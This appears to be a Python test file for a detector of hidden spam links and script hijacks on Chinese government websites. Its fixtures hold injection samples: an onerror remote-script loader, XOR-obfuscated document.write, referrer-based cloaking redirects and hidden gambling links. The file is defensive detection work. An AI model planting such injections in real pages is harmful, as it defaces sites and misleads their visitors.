"""Hidden links: the place of a finding, own styles and fetched ones, and what a stray file or end of page holds."""

from __future__ import annotations

from zhengjian.facts import hidden
from zhengjian.facts.hosts import Whose, whose
from zhengjian.facts.page import Page

URL = "http://www.mouxian.gov.cn/a/1.html"


def certain(html: str, **more: object) -> list[tuple[str, str]]:
    return [(item.technique, item.target) for item in hidden.read(Page(URL, html, **more)).certain]  # type: ignore[arg-type]


def test_a_finding_names_line_and_offsets_of_its_source() -> None:
    html = '<html>\r\n<body>\r\n中文<div style="left:-999px;position:absolute"><a href="http://x1.com/">离心泵</a></div></body></html>'
    (item,) = hidden.read(Page(URL, html)).certain
    assert item.line == 3
    assert html[item.start : item.end] == '<a href="http://x1.com/">'
    assert item.source.endswith("</html>")


def test_links_between_written_tags_are_hidden_by_them() -> None:
    html = "<script>document.write(\"<div style='display:none'>\")</script><a href='http://x1.com'>传奇私服</a><script>document.write('</div>')</script>"
    assert certain(html) == [("链接到不良网站", "http://x1.com")]
    ordinary = html.replace("传奇私服", "手游下载")
    assert certain(ordinary) == [("脚本写入：display:none 隐藏", "http://x1.com")]


def test_a_fetched_style_sheet_hides_as_an_own_one_does() -> None:
    html = '<p class="xyz"><a href="http://x1.com">小说下载</a></p>'
    assert certain(html) == []
    assert certain(html, styles=(".xyz{position:absolute;left:-4000px}",)) == [("移出屏幕之外", "http://x1.com")]


def test_rules_for_narrow_screens_and_print_hide_nothing() -> None:
    html = '<style>@media (max-width:768px){.p{display:none}} @media print{.p{display:none}}</style><p class="p"><a href="http://x1.com">小说下载</a></p>'
    assert certain(html) == []


def test_what_a_rule_shows_again_is_switched() -> None:
    html = '<style>.p{display:none}.q:hover .p{display:block}</style><div class="q"><p class="p"><a href="http://x1.com">小说下载</a></p></div>'
    assert certain(html) == []


def test_a_script_file_is_read_by_itself() -> None:
    found = hidden.of_script('document.write("<marquee height=1><a href=http://x1.com>传奇</a></marquee>")')
    assert [item.technique for item in found.certain] == ["脚本写入：极小滚动条"]


def test_markup_added_to_a_script_file_is_found_at_its_line() -> None:
    (item,) = hidden.of_script(
        'function f(){return 1}\n<marquee scrollAmount=10000 width="1" height="6"><a href="http://x1.com/">mbt shoes</a></marquee>'
    ).certain
    assert (item.technique, item.line) == ("极小滚动条", 2)


def test_whose_host() -> None:
    own = "www.mouxian.gov.cn"
    assert whose("rsj.mouxian.gov.cn", own) is Whose.PUBLIC
    assert whose("m.mouxian.com", "www.mouxian.com") is Whose.OWN
    assert whose("hm.baidu.com", own) is Whose.KNOWN
    assert whose("192.168.1.3", own) is Whose.LOCAL
    assert whose("112.213.109.77", own) is Whose.UNKNOWN
    assert whose("baidu.com.evil.top", own) is Whose.UNKNOWN


def test_a_page_full_of_hidden_blocks_gives_a_bounded_answer() -> None:
    html = "".join(f'<p style="display:none"><a href="http://h{number}.com">离心泵</a></p>' for number in range(5_000))
    assert len(hidden.read(Page(URL, html)).items) == 60


def test_a_lost_picture_replaced_by_another_hosts_is_no_stranger() -> None:
    picture = "<script>location.hash</script><img src=a.jpg onerror=\"this.src='//img.x1.com/none.png'\">"
    assert certain(picture) == []
    loader = "<img src=1 onerror=\"var s=document.createElement('script');s.src='//x1.top/j.js';document.body.appendChild(s)\">"
    assert certain(loader) == [("网页事件跳转到站外", "//x1.top/j.js")]


def test_spots_of_a_map_inherited_colours_and_coded_hosts_are_hidden() -> None:
    assert certain('<map><area href="http://x1.com" alt="娱乐城" coords="0,0,1,1"></map>') == [("尺寸为零并截断", "http://x1.com")]
    assert certain('<map><area href="http://x1.com" alt="合作单位" coords="0,0,90,30"></map>') == []
    coloured = '<body bgcolor="#ffffff"><p style="color:#fff"><a href="http://x1.com" style="color:{}">澳博</a></p></body>'
    assert certain(coloured.format("inherit")) == [("文字与背景同色", "http://x1.com")]
    assert certain(coloured.format("#333")) == []
    assert certain('<a style="display:none" href="http://%781.com/">澳门</a>') == [("display:none 隐藏", "http://%781.com/")]


def test_a_script_that_renames_the_page_is_found_unless_it_reports() -> None:
    assert certain("<script>eval('document.title=\"澳门赌场\"')</script>") == [("脚本把网页标题改成推广内容", "")]
    assert certain("<script>location.hash;document.title='警方打击澳门赌场招赌'</script>") == []


def test_another_name_for_the_document_writes_as_well() -> None:
    found = hidden.of_script(
        "var d=document;d.write(\"<div style='position:absolute;left:-9999px'><a href='http://x1.com'>六合彩</a></div>\");"
    )
    assert [item.target for item in found.certain] == ["http://x1.com"]


def test_links_that_no_browser_draws_need_words_of_a_bad_trade() -> None:
    for html, technique in (
        ("<noframes><a href='http://x1.com/'>网上赌场</a></noframes>", "noframes 区域内隐藏链接"),
        ("<textarea style='display:none'><a href='http://x1.com/'>百家乐</a></textarea>", "textarea 区域内隐藏链接"),
        ("<select><option value='http://x1.com/'>澳门葡京官网</option></select>", "下拉菜单内的不良链接"),
        ("<!-- <a href='http://x1.com/'>百家乐</a> -->", "注释内隐藏链接"),
    ):
        assert certain(f"<body><p>要闻</p>{html}</body>") == [(technique, "http://x1.com/")], html
        assert (
            certain(
                f"<body><p>要闻</p>{html}</body>".replace("网上赌场", "市供电公司")
                .replace("百家乐", "点击")
                .replace("澳门葡京官网", "报社")
            )
            == []
        )


def test_browsers_take_backslashes_strange_bases_and_drawings_for_links() -> None:
    assert certain('<p><a href="http:\\\\x1.com">百家乐</a></p>') == [("链接到不良网站", "http://x1.com")]
    assert certain('<base href="http://x1.com/"><a href="in">澳门银河注册</a>') == [("链接的基准地址被指向站外", "http://x1.com/")]
    assert certain('<svg width="0" height="0"><a xlink:href="http://x1.com"><text>彩票</text></a></svg>') == [
        ("尺寸为零并截断", "http://x1.com")
    ]
    assert certain('<a href="http://x1.com"><img src="x.gif" width="0" height="0"></a>') == [("以极小图片作链接", "http://x1.com")]
    assert certain('<a href="http://x1.com"><img src="http://x1.com/c.gif" width="1" height="1"></a>') == []


def test_a_redirect_at_once_is_a_hijack_only_of_a_page_with_words_of_its_own() -> None:
    script = "<script>setTimeout(\"location.href='http://x1.com/'\",800)</script>"
    assert certain(f"<title>要闻</title><p>{'全县召开防汛抗旱工作会议。' * 4}</p>{script}") == [
        ("打开网页即由脚本跳转到站外", "http://x1.com/")
    ]
    assert certain(f"<title>要闻</title><p>{'本站已迁移至新网站，正在跳转。' * 4}</p>{script}") == []
    assert certain(f"<title>首页</title>{script}") == []


def test_what_a_script_makes_and_hides_or_takes_out_of_a_disguise_is_hidden() -> None:
    made = 'var o=document.createElement("div");o.style.cssText="display:none";o.innerHTML=\'<a href="http://x1.com">小说下载</a>\';b.appendChild(o);'
    assert certain(f"<p>要闻</p><script>{made}</script>") == [("脚本写入：display:none 隐藏", "http://x1.com")]
    assert certain(f'<p>要闻</p><script>{made}f=function(){{o.style.display="block"}}</script>') == []
    shifted = ",".join(
        str(ord(character) ^ 7) for character in '<div style="left:-999px;position:fixed"><a href="http://x1.com">传奇</a></div>'
    )
    script = f'var a=[{shifted}],s="";for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^7);document.write(s)'
    assert certain(f"<p>要闻</p><script>{script}</script>") == [("脚本写入：移出屏幕之外", "http://x1.com")]


def test_an_element_moved_away_by_a_script_is_hidden_unless_it_comes_back() -> None:
    script = 'var e=document.getElementsByClassName("kx")[0];document.getElementsByClassName("kx")[0].style.left="-4000px";'
    html = '<div class="kx"><a href="http://x1.com">股票配资</a></div><script>{}</script>'
    moved = (
        'document.getElementsByClassName("kx")[0].style.position="absolute";document.getElementsByClassName("kx")[0].style.left="-4000px"'
    )
    assert certain(html.format(moved)) == [("脚本隐藏", "http://x1.com")]
    assert certain(html.format(script)) == []
    assert certain(html.format(moved + ';$(".kx").show()')) == []


def test_the_end_of_a_very_long_script_is_read_and_the_middle_is_not_called_clean() -> None:
    long = "var a='" + "x" * 500_000 + "';"
    read = hidden.of_script(long + 'if(document.referrer.indexOf("baidu")>0)location.href="http://x1.com"', "www.a.gov.cn")
    assert [item.target for item in read.certain] == ["http://x1.com"] and not read.complete
    assert not hidden.of_script(long, "www.a.gov.cn").complete
